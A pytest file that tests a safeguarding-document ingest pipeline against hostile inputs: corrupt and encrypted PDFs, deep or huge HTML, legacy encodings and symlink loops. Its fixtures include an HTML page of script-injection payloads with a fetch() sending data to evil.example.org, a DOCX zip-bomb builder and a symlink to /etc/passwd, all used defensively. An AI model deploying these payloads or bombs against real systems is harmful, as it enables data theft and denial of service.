"""Hostile files beside good ones: each gets a clear per-file error or is safely ingested,
the good documents are indexed, and memory and time stay bounded.

The corpus is built here, in a tmp folder: truncated, corrupt, encrypted and scanned PDFs, a DOCX zip
bomb, huge, crowded, deeply nested and script-laden web pages, text in legacy encodings, a symlink
loop, a link out of the folder and a 5 MB single-line file. The ingest runs in a child process so its
peak RSS (resource.getrusage) is its own, and is compared with a run over the good documents alone.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from ingest import discover, parse_file
from ingest.errors import ParseError
from ingest.limits import Limits, check_zip, use_limits
from tests import fixtures_docs as fx
from tests.conftest import LADO_A, MISSING_A, REPO

MB = 1024 * 1024

PAYLOAD_PAGE = """<!doctype html><html><head><title>Escalation policy</title>
<script>window.PAYLOAD_HEAD_SCRIPT = document.cookie;</script>
<style>body { background: url("javascript:PAYLOAD_STYLE") }</style>
<meta http-equiv="refresh" content="0;url=javascript:PAYLOAD_META">
</head><body onload="PAYLOAD_ONLOAD()">
<h1 onclick="PAYLOAD_ONCLICK()">Resolving professional disagreements</h1>
<p onmouseover="PAYLOAD_MOUSEOVER()">If you disagree with a decision about a child, talk first to the worker who
made it, then escalate to their manager within five working days.</p>
<script type="text/javascript">fetch("https://evil.example.org/?c=" + PAYLOAD_BODY_SCRIPT)</script>
<iframe src="https://evil.example.org/frame" srcdoc="<p>PAYLOAD_SRCDOC</p>">PAYLOAD_IFRAME_TEXT</iframe>
<noscript><img src=x onerror="PAYLOAD_ONERROR()">PAYLOAD_NOSCRIPT</noscript>
<svg><script>PAYLOAD_SVG_SCRIPT</script><text>PAYLOAD_SVG_TEXT</text></svg>
<object data="x.swf">PAYLOAD_OBJECT</object><embed src="PAYLOAD_EMBED">
<template><p>PAYLOAD_TEMPLATE</p></template>
<form action="https://evil.example.org"><input value="PAYLOAD_INPUT"><button>PAYLOAD_BUTTON</button></form>
<a href="javascript:PAYLOAD_HREF()">Read the escalation flowchart</a>
<p>Record each stage of the disagreement and the outcome on the child's file.</p>
<!-- <script>PAYLOAD_COMMENT</script> -->
<p><![CDATA[PAYLOAD_CDATA]]></p>
</body></html>"""

GOOD_NAMES = ["lado.md", "missing.md", "neglect.html", "private-fostering-procedure.docx", "missing-children.pdf",
              "letter-cp1252.txt", "notes-latin1.txt", "bulletin-utf16.txt", "escalation-scripts.html",
              "long-line.txt", "really-html.pdf"]


# ---------------------------------------------------------------- building the corpus


def _docx_bomb(path: Path, unpacked_mb: int = 300) -> Path:
    """A DOCX whose document.xml declares and really holds hundreds of MB of XML (deflates ~1000:1)."""
    (path.parent / "_template").mkdir()
    template = fx.write_docx(path.parent / "_template")
    chunk = b"<w:p><w:r><w:t>" + b"A" * (MB - 40) + b"</w:t></w:r></w:p>"
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "word/document.xml":
                dst.writestr(info, src.read(info))
        with dst.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                     b'wordprocessingml/2006/main"><w:body>')
            for _ in range(unpacked_mb):
                fh.write(chunk)
            fh.write(b"</w:body></w:document>")
    shutil.rmtree(path.parent / "_template")
    return path


def _write_good(folder: Path) -> None:
    (folder / "lado.md").write_text(LADO_A)
    (folder / "missing.md").write_text(MISSING_A)
    fx.write_html_page(folder)
    fx.write_docx(folder)
    fx.write_pdf(folder)


def _write_hostile(folder: Path, pdf: Path) -> None:
    good_pdf = pdf.read_bytes()
    (folder / "truncated.pdf").write_bytes(good_pdf[: len(good_pdf) // 3])
    (folder / "corrupt.pdf").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 64 + b"\n%%EOF")
    fx.write_encrypted_pdf(pdf, folder)  # locked.pdf
    _scanned_pdf(folder / "scanned.pdf")
    (folder / "empty.txt").write_bytes(b"")
    (folder / "empty.pdf").write_bytes(b"")
    (folder / "really-html.pdf").write_text(  # the extension lies; the content is a good web page
        "<html><body><h1>Private fostering</h1><p>Tell the local authority about any private fostering "
        "arrangement that will last 28 days or more.</p></body></html>")
    (folder / "really-zip.docx").write_bytes(b"PK\x03\x04" + os.urandom(2000))
    _docx_bomb(folder / "bomb.docx")
    para = "<p>" + "Share the concern with the designated safeguarding lead on the same day. " * 3 + "</p>\n"
    (folder / "huge.html").write_text("<html><body><h1>Huge</h1>" + para * (20 * MB // len(para)) + "</body></html>")
    (folder / "crowded.html").write_text("<html><body><h1>Crowded</h1>" + "<span>x</span>" * 300_000 + "</body></html>")
    (folder / "deep.html").write_text("<html><body><h1>Deep</h1>" + "<div>" * 10_000 + "deep text"
                                      + "</div>" * 10_000 + "</body></html>")
    (folder / "escalation-scripts.html").write_text(PAYLOAD_PAGE)
    (folder / "letter-cp1252.txt").write_bytes(
        "Referral guidance\n\nThe \u201cthreshold\u201d for a referral \u2013 see the \u00a3 cost note \u2014 "
        "is met when a child is at risk of significant harm.\n".encode("cp1252"))
    (folder / "notes-latin1.txt").write_bytes(
        "Notes for caf\u00e9 staff\n\nStaff at the caf\u00e9 and cr\u00e8che should tell the designated "
        "lead about any concern \u00bd an hour before closing.\n".encode("latin-1"))
    (folder / "bulletin-utf16.txt").write_text(
        "Bulletin\n\nThe na\u00efve approach of waiting to see is not safe: make a referral the same day.\n",
        encoding="utf-16")
    (folder / "long-line.txt").write_text(_long_line(150_000))  # 1 MB on one line (5 MB: see below)
    (folder / "no-spaces.txt").write_text("Q" * 5 * MB)  # one 5 MB "word": not language
    loops = folder / "loops"
    loops.mkdir()
    (loops / "a").symlink_to(loops / "b")
    (loops / "b").symlink_to(loops / "a")
    (loops / "self.txt").symlink_to(loops / "self.txt")
    (loops / "parent").symlink_to(folder, target_is_directory=True)
    (folder / "passwd.txt").symlink_to("/etc/passwd")  # a link out of the folder


def _scanned_pdf(path: Path) -> Path:
    """An image-only page, as a scanner makes it: a picture of text, no text layer."""
    from PIL import Image, ImageDraw
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    image = Image.new("L", (800, 300), 255)
    ImageDraw.Draw(image).text((20, 130), "Refer to the MASH on 01632 960100", fill=0)
    c = canvas.Canvas(str(path))
    c.drawImage(ImageReader(image), 50, 500, width=500, height=190)
    c.showPage()
    c.save()
    return path


@pytest.fixture(scope="module")
def folders(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    good = tmp_path_factory.mktemp("good")
    _write_good(good)
    hostile = tmp_path_factory.mktemp("hostile")
    _write_good(hostile)
    _write_hostile(hostile, hostile / "missing-children.pdf")
    return good, hostile


# ---------------------------------------------------------------- ingesting in a child process

# The child's own peak: Linux carries ru_maxrss over exec, so a child of a large test process would report the
# parent's size; VmHWM belongs to the child's address space alone.
_INGEST = """
import json, resource, sys, time
from pathlib import Path
from index.embedders import HashingEmbedder
from index.indexer import Index
start = time.monotonic()
report = Index(Path(sys.argv[1]), HashingEmbedder()).ingest([Path(sys.argv[2])])
try:
    peak_kb = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:"))
except (OSError, StopIteration):
    peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"report": report.as_dict(), "seconds": time.monotonic() - start, "peak_mb": peak_kb / 1024}))
"""


def _ingest(data: Path, folder: Path, env: dict[str, str] | None = None) -> dict:
    proc = subprocess.run([sys.executable, "-c", _INGEST, str(data), str(folder)], cwd=REPO, capture_output=True,
                          text=True, timeout=240, env={**os.environ, **(env or {})})
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


@pytest.fixture(scope="module")
def runs(folders: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict]:
    good, hostile = folders
    base = tmp_path_factory.mktemp("data")
    # 15 MB: the 20 MB page is refused by size; the element and depth limits are tested in-process below.
    return {"good": _ingest(base / "good", good),
            "hostile": _ingest(base / "hostile", hostile, env={"SAFEGUARD_MAX_FILE_MB": "15"})}


def _by_name(report: dict) -> tuple[set[str], dict[str, str]]:
    added = {Path(s).name for s in report["added"]}
    failed = {Path(f["source"]).name: f["reason"] for f in report["failed"]}
    return added, failed


EXPECTED_FAILURES = {
    "truncated.pdf": "corrupt or unreadable PDF",
    "corrupt.pdf": "PDF",
    "locked.pdf": "encrypted PDF",
    "scanned.pdf": "no text layer",
    "empty.txt": "empty file",
    "empty.pdf": "empty file",
    "really-zip.docx": "corrupt zip",
    "bomb.docx": "zip bomb",
    "huge.html": "file too large (20.0 MB; limit 15.0 MB, set by SAFEGUARD_MAX_FILE_MB)",
    "crowded.html": "too complex",
    "deep.html": "nested too deeply",
    "no-spaces.txt": "no text found",
}


def test_every_hostile_file_gets_a_clear_reason_and_good_ones_are_indexed(runs: dict[str, dict]) -> None:
    added, failed = _by_name(runs["hostile"]["report"])
    for name, reason in EXPECTED_FAILURES.items():
        assert name in failed, f"{name} was not refused: added={name in added}"
        assert reason in failed[name], (name, failed[name])
        assert "\n" not in failed[name] and len(failed[name]) < 200  # one line a person can act on
    assert set(GOOD_NAMES) <= added, set(GOOD_NAMES) - added
    assert not added & set(EXPECTED_FAILURES)


def test_symlinks_neither_hang_nor_escape_the_folder(folders: tuple[Path, Path], runs: dict[str, dict]) -> None:
    _, hostile = folders
    found = {p.name for p in discover([hostile])}
    assert "passwd.txt" not in found and "self.txt" not in found
    sources = runs["hostile"]["report"]["added"]
    assert not any("/etc/" in s for s in sources)
    assert all(Path(s).resolve().is_relative_to(hostile.resolve()) for s in sources)


def test_memory_and_time_stay_bounded(runs: dict[str, dict]) -> None:
    good, hostile = runs["good"], runs["hostile"]
    # The hostile folder holds 20 MB and 300 MB (unpacked) monsters: refusing them early keeps the
    # peak close to what the good documents cost (plus the 5 MB single-line file, which is ingested).
    assert hostile["peak_mb"] < 1024, hostile["peak_mb"]
    assert hostile["peak_mb"] / good["peak_mb"] < 3.0, (hostile["peak_mb"], good["peak_mb"])
    assert hostile["seconds"] < 150, hostile["seconds"]
    print(f"\nhostile ingest: peak {hostile['peak_mb']:.0f} MB in {hostile['seconds']:.1f} s; "
          f"good only: peak {good['peak_mb']:.0f} MB in {good['seconds']:.1f} s")


def test_script_payloads_never_become_document_text(folders: tuple[Path, Path]) -> None:
    _, hostile = folders
    doc = parse_file(hostile / "escalation-scripts.html")
    text = "\n".join([doc.title, *(h for s in doc.sections for h in s.heading_path),
                      *(b for s in doc.sections for b in s.blocks)])
    assert "escalate to their manager within five working days" in text
    assert "Read the escalation flowchart" in text
    assert "PAYLOAD" not in text and "evil.example.org" not in text and "javascript:" not in text
    assert "<" not in text and ">" not in text  # plain text only: no markup survives


def test_legacy_encodings_decode_to_the_right_characters(folders: tuple[Path, Path]) -> None:
    _, hostile = folders
    assert "\u201cthreshold\u201d" in _text(hostile / "letter-cp1252.txt")
    assert "caf\u00e9" in _text(hostile / "notes-latin1.txt")
    assert "na\u00efve approach" in _text(hostile / "bulletin-utf16.txt")


def _long_line(words: int) -> str:
    return " ".join(f"word{i % 997}" + ("." if i % 40 == 39 else "") for i in range(words))


def test_a_5_mb_single_line_is_parsed_and_chunked_quickly_without_losing_words(tmp_path: Path) -> None:
    from index.passages import MAX_WORDS, document_passages

    path = tmp_path / "one-line.txt"
    path.write_text(_long_line(850_000))
    assert path.stat().st_size > 5 * MB and b"\n" not in path.read_bytes()
    start = time.monotonic()
    passages = document_passages(parse_file(path))
    seconds = time.monotonic() - start
    assert all(len(p.text.split()) <= MAX_WORDS for p in passages)
    assert sum(len(p.text.split()) for p in passages) == 850_000
    assert seconds < 20, seconds  # was 36 s (quadratic re-slicing in the chunker) before blocks were cut


def test_huge_page_under_default_limits_is_refused_quickly(folders: tuple[Path, Path]) -> None:
    _, hostile = folders
    start = time.monotonic()
    with pytest.raises(ParseError, match="too complex"):
        parse_file(hostile / "huge.html")  # 20 MB, under the default 50 MB size limit
    assert time.monotonic() - start < 10


def test_file_size_limit_can_be_raised_or_lowered(folders: tuple[Path, Path]) -> None:
    _, hostile = folders
    with use_limits(max_file_bytes=MB), pytest.raises(ParseError, match="file too large"):
        parse_file(hostile / "long-line.txt")
    with use_limits(max_file_bytes=2 * MB):
        assert parse_file(hostile / "long-line.txt").word_count == 150_000


def test_pdf_page_limit(folders: tuple[Path, Path]) -> None:
    good, _ = folders
    with use_limits(max_pdf_pages=2), pytest.raises(ParseError, match="SAFEGUARD_MAX_PDF_PAGES"):
        parse_file(good / "missing-children.pdf")
    assert parse_file(good / "missing-children.pdf").sections


def test_zip_bomb_is_refused_before_unpacking(folders: tuple[Path, Path]) -> None:
    _, hostile = folders
    start = time.monotonic()
    with zipfile.ZipFile(hostile / "bomb.docx") as zf, pytest.raises(ParseError, match="zip bomb"):
        check_zip(zf, Limits())
    assert time.monotonic() - start < 0.5  # declared sizes only: 300 MB were never inflated


def test_no_text_layer_message_is_clear(folders: tuple[Path, Path]) -> None:
    _, hostile = folders
    if shutil.which("tesseract"):
        pytest.skip("OCR engine present: scanned PDFs may be read by OCR")  # no OCR path yet; see RELIABILITY.md
    with pytest.raises(ParseError, match="no text layer.*OCR"):
        parse_file(hostile / "scanned.pdf")


def _text(path: Path) -> str:
    doc = parse_file(path)
    return "\n".join(b for s in doc.sections for b in s.blocks) + doc.title
